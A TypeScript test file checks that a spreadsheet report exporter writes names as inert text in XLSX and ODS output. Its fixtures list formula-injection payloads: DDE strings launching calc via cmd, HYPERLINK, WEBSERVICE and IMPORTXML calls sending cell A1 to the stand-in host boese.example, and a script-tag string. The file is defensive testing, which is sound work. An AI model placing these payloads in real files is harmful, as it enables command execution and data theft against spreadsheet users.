import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { read, utils, type WorkBook } from '@e965/xlsx';
import { unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { reportWorkbook, type WorkbookFormat } from '#lib/server/papers/index.ts';
import { reportOf } from './given-report.ts';

const starts = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '  +',
  "'=",
  '"=',
  '＝',
  '＋',
  '－',
  '＠',
  ';=',
  ',=',
  '\u00a0=',
  '\u200b=',
  '==',
];
const bodies = [
  '1+1',
  "cmd|'/C calc'!A0",
  'HYPERLINK("http://boese.example/?x="&A1,"Klick")',
  'WEBSERVICE("http://boese.example/")',
  'DDE("cmd";"/C calc";"x")',
  'IMPORTXML(CONCAT("http://boese.example/",A1),"//a")',
  "SUM(A1:A9)*cmd|' /C calc'!A0",
  'of:=1+1',
  'msoxl:=1+1',
  '[.A1]',
  'A1',
  '"a" & "b"',
  '<script>alert(1)</script>',
  '&lt;f&gt;1&lt;/f&gt;',
  '1E5',
];
/** What list programs have been made to execute, as names of applications. */
const payloads = starts.flatMap((start) => bodies.map((body) => `${start}${body}`));

const report = reportOf(
  payloads.map((name) => ({
    name,
    vendor_text: name,
    department: name,
    product_id: null,
    contract_end: '2027-12-31',
    notice_months: 3,
  })),
);
const mimeTypes = {
  xlsx: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
  ods: 'application/vnd.oasis.opendocument.spreadsheet',
};

function readBack(bytes: Uint8Array): WorkBook {
  return read(bytes, { type: 'array', cellFormula: true, cellNF: true, cellStyles: true, raw: true });
}

/** A cell is one line with single blanks and without invisible signs; nothing else of a text changes. */
const tidy = (text: string): string => text.replaceAll('\u200b', '').replace(/\s+/gu, ' ').trim();

function partsOf(archive: Uint8Array): { path: string; xml: string }[] {
  return Object.entries(unzipSync(archive)).map(([path, part]) => ({
    path,
    xml: new TextDecoder().decode(part),
  }));
}

const entities: Record<string, string> = { lt: '<', gt: '>', quot: '"', apos: "'", amp: '&' };

/** Every text of a cell as the XML holds it, decoded once, without the library that wrote it. */
function textsOf(parts: { xml: string }[]): string[] {
  return parts.flatMap(({ xml }) =>
    [...xml.matchAll(/(?:t="str"><v>|<text:p>)([^<]*)</g)].map(([, text = '']) =>
      text.replace(/&(\w+);/g, (whole, name: string) => entities[name] ?? whole),
    ),
  );
}

describe.each(['xlsx', 'ods'] as const)('the report as %s', (format: WorkbookFormat) => {
  const bytes = reportWorkbook(report, 'de', format);
  const book = readBack(bytes);
  const parts = partsOf(bytes);

  it('holds 300 names that look like formulas as the identical texts', () => {
    expect(new Set(payloads).size).toBe(300);
    const sheet = book.Sheets['Bestand'] ?? book.Sheets[book.SheetNames[1] ?? ''];
    if (!sheet) throw new Error('the inventory has no sheet');
    const cells = utils
      .sheet_to_json<unknown[]>(sheet, { header: 1, raw: true })
      .slice(1)
      .map(([name]) => name);
    for (const cell of cells) expect(typeof cell).toBe('string');
    const texts = new Set(textsOf(parts));
    expect(payloads.filter((name) => !texts.has(tidy(name)))).toEqual([]);
    expect(new Set(cells).size).toBe(new Set(payloads.map(tidy)).size);
  });

  it('holds no formula, no link and no macro, neither as read back nor in its parts', () => {
    for (const sheet of Object.values(book.Sheets))
      for (const [at, cell] of Object.entries(sheet)) {
        if (at.startsWith('!')) continue;
        const { f, F, l } = cell as { f?: string; F?: string; l?: object };
        expect([f, F, l]).toEqual([undefined, undefined, undefined]);
      }
    expect(parts.length).toBeGreaterThan(3);
    for (const { path, xml } of parts) {
      expect(xml, path).not.toMatch(/<f[ >/]|table:formula|<hyperlink|xlink:href="(?!\.|$)|ddeLink|oleLink/);
      expect(path).not.toMatch(/vba|macro|script|externalLink/i);
    }
  });

  it('gives figures as numbers, dates as dates and what is unknown as nothing', () => {
    const one = readBack(
      reportWorkbook(
        reportOf([
          {
            name: 'Fachverfahren',
            users: 12,
            contract_end: '2027-12-31',
            notice_months: 3,
            cost_cents: 123_456,
          },
        ]),
        'de',
        format,
      ),
    );
    const sheet = one.Sheets[one.SheetNames[1] ?? ''] ?? {};
    const rows = utils.sheet_to_json<unknown[]>(sheet, { header: 1, raw: true });
    const [header = [], row = []] = rows;
    const of = (label: RegExp) => row[header.findIndex((text) => label.test(String(text)))];
    expect(of(/Nutz/)).toBe(12);
    expect(of(/Kosten/)).toBe(1234.56);
    expect(of(/Kündigungsfrist/)).toBe(3);
    expect(of(/Produkt/)).toBeUndefined();
    const at = header.findIndex((text) => /Vertragsende/.test(String(text)));
    const cell = sheet[utils.encode_cell({ r: 1, c: at })] as { t: string; v: unknown; w?: string };
    expect(['n', 'd']).toContain(cell.t);
    const day = cell.v instanceof Date ? cell.v.toISOString().slice(0, 10) : serialDay(Number(cell.v));
    expect(day).toBe('2027-12-31');
  });

  it('opens for an empty inventory, in both languages', () => {
    for (const language of ['de', 'en'] as const) {
      const empty = readBack(reportWorkbook(reportOf([], language), language, format));
      expect(empty.SheetNames.length).toBe(book.SheetNames.length);
      expect(empty.SheetNames.every((name) => name.length > 0 && name.length <= 31)).toBe(true);
    }
  });

  it('keeps signs that its XML cannot hold from breaking the file', () => {
    const names = [
      'a\u0000b',
      'a\u0007b\u001b',
      '\ud83d halb',
      '\ufffe\uffff',
      ']]>',
      '&#0;',
      '_x000D_',
      'x'.repeat(500),
    ];
    const again = reportWorkbook(reportOf(names.map((name) => ({ name }))), 'de', format);
    const texts = textsOf(partsOf(again));
    for (const text of ['ab', 'halb', ']]>', '&#0;', '_x000D_', 'x'.repeat(500)])
      expect(texts).toContain(text);
    for (const { xml } of partsOf(again)) expect(xml).not.toMatch(/[\0-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]/);
    expect(readBack(again).SheetNames).toEqual(book.SheetNames);
  });
});

it('an ODS file names its type in its first bytes, an XLSX file in its list of types', () => {
  const ods = Buffer.from(reportWorkbook(report, 'de', 'ods')).toString('latin1');
  expect(ods.slice(0, 200)).toContain(mimeTypes.ods);
  const types = unzipSync(reportWorkbook(report, 'de', 'xlsx'))['[Content_Types].xml'];
  expect(new TextDecoder().decode(types)).toContain('spreadsheetml.sheet.main+xml');
});

function serialDay(serial: number): string {
  return new Date((serial - 25_569) * 86_400_000).toISOString().slice(0, 10);
}

const office = ((): string | null => {
  for (const program of ['soffice', 'libreoffice'])
    try {
      execFileSync('which', [program], { stdio: 'ignore' });
      return program;
    } catch {
      continue;
    }
  return null;
})();

describe.skipIf(office === null)('opened in LibreOffice (needs soffice)', () => {
  it('every name is still a text, in both formats', () => {
    const folder = mkdtempSync(join(tmpdir(), 'allmende-office-'));
    try {
      for (const format of ['xlsx', 'ods'] as const)
        writeFileSync(join(folder, `report-${format}.${format}`), reportWorkbook(report, 'de', format));
      const everySheetAsShown = 'csv:Text - txt - csv (StarCalc):9,34,76,1,,0,false,true,false,true,false,-1';
      execFileSync(
        office ?? '',
        [
          '--headless',
          `-env:UserInstallation=${pathToFileURL(join(folder, 'profile')).href}`,
          '--convert-to',
          everySheetAsShown,
          '--outdir',
          folder,
          join(folder, 'report-xlsx.xlsx'),
          join(folder, 'report-ods.ods'),
        ],
        { stdio: 'ignore', timeout: 100_000 },
      );
      for (const format of ['xlsx', 'ods']) {
        const sheets = readdirSync(folder).filter(
          (file) => file.startsWith(`report-${format}-`) && file.endsWith('.csv'),
        );
        const text = tidy(
          sheets
            .map((file) => readFileSync(join(folder, file), 'utf8'))
            .join('\n')
            .replaceAll('""', '"'),
        );
        expect(sheets.length).toBeGreaterThan(3);
        expect(payloads.filter((name) => !text.includes(tidy(name)))).toEqual([]);
        expect(text.split('2027-12-31').length).toBeGreaterThan(300);
        expect(text).not.toMatch(/Err:\d|#NAME\?|#REF!|#VALUE!/);
      }
    } finally {
      rmSync(folder, { recursive: true, force: true });
    }
  });
});
